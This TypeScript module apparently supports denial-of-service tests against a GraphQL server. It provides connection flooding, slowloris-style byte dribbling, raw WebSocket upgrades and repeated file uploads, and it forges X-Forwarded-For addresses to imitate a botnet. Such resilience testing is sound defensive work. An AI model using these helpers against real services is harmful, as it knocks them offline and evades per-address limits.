import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { WebSocket } from 'ws';

/** Whom an attack is for, and as whom it comes. */
export interface Target {
  readonly url: string;
  /** Of a registered user; an attack of strangers leaves it. */
  readonly token: string;
}

/** What is sent again and again. */
export interface Shot {
  readonly method?: string;
  readonly path?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
}

/** As many loops at once, each of which does it again and again until the process is killed. */
export async function again(times: number, work: (loop: number) => Promise<unknown>): Promise<void> {
  const loop = async (_: unknown, at: number) => {
    for (;;) await work(at).catch(() => setTimeout(20));
  };
  await Promise.all(Array.from({ length: times }, loop));
}

/** Sends requests over so many connections, each as soon as the one before is answered. */
export async function flood({ url }: Target, connections: number, next: () => Shot): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  await again(connections, () => shoot(url, agent, next()));
}

function shoot(url: string, agent: Agent, { method = 'POST', path = '/graphql', headers, body }: Shot): Promise<void> {
  return new Promise((resolve, reject) => {
    const sent = request(`${url}${path}`, { method, agent, headers: { ...headers } }, (response) => {
      response.resume();
      response.once('end', resolve);
      response.once('error', reject);
    });
    sent.once('error', reject);
    sent.end(body);
  });
}

/** A request of GraphQL; `token` where it comes from a registered user. */
export function operation(query: string, variables: Record<string, unknown> = {}, token?: string): Shot {
  return {
    headers: {
      'content-type': 'application/json',
      'x-forwarded-for': someAddress(),
      ...(token && { authorization: `Bearer ${token}` }),
    },
    body: JSON.stringify({ query, variables }),
  };
}

/** A form that uploads a file, as a registered user. */
export function upload({ token }: Target, name: string, file: Buffer): Shot {
  const query = 'mutation($input:IngestFileInput!){ingestFile(input:$input){document{id}}}';
  const boundary = 'attack';
  const part = (disposition: string, content: string | Buffer) => [
    `--${boundary}\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n`,
    content,
    '\r\n',
  ];
  const parts = [
    ...part('name="operations"', JSON.stringify({ query, variables: { input: { file: null, wait: false } } })),
    ...part('name="map"', '{"0":["variables.input.file"]}'),
    ...part(`name="0"; filename="${name}"`, file),
    `--${boundary}--\r\n`,
  ];
  return {
    headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat(parts.map((piece) => Buffer.from(piece))),
  };
}

/** An address of its own for each request, as those of a botnet have: the server trusts the proxy that tells it. */
function someAddress(): string {
  return Array.from({ length: 4 }, () => 1 + Math.floor(Math.random() * 250)).join('.');
}

/** A connection that speaks for itself. */
export async function openConnection({ url }: Target): Promise<Socket> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  await once(socket, 'connect');
  socket.on('error', () => {});
  return socket;
}

/** A connection that has become a WebSocket, whose frames its holder makes. */
export async function upgrade(target: Target): Promise<Socket> {
  const socket = await openConnection(target);
  const headers = {
    host: 'localhost',
    connection: 'upgrade',
    upgrade: 'websocket',
    'sec-websocket-version': '13',
    'sec-websocket-key': 'MDEyMzQ1Njc4OWFiY2RlZg==',
    'sec-websocket-protocol': 'graphql-transport-ws',
    'x-forwarded-for': someAddress(),
  };
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  socket.write(`GET /graphql HTTP/1.1\r\n${lines.join('')}\r\n`);
  await once(socket, 'data');
  return socket;
}

/** Writes a request's first bytes, then a byte a while until the server has had enough. */
export async function dribble(target: Target, head: string, everyMs: number): Promise<void> {
  const socket = await openConnection(target);
  socket.resume();
  socket.write(head);
  while (!socket.destroyed && socket.writable) {
    socket.write('x');
    await setTimeout(everyMs);
  }
  socket.destroy();
}

/** A WebSocket from an address of its own, whose caller is known where a token is given. */
export async function openSocket({ url }: Target, token?: string): Promise<WebSocket> {
  const headers = { 'x-forwarded-for': someAddress() };
  const socket = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', { headers });
  socket.on('error', () => {});
  await once(socket, 'open');
  if (token) {
    socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } }));
    await once(socket, 'message');
  }
  return socket;
}

/** Resolves when a socket is closed, whoever did it. */
export async function closed(socket: WebSocket): Promise<void> {
  if (socket.readyState !== socket.CLOSED) await once(socket, 'close');
}
